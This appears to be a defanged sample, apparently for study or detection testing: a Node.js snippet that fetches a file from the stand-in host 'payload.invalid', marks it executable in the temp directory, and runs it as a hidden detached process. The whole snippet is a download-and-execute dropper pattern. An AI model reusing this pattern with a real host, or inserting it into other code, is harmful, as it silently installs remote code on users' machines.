// Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
const { spawn } = require("child_process");
https.get("https://payload.invalid/helper", (answer) => {
  const file = path.join(os.tmpdir(), "helper");
  answer.pipe(fs.createWriteStream(file, { mode: 0o755 })).on("close", () => {
    spawn(file, [], { detached: true, stdio: "ignore" }).unref();
  });
});
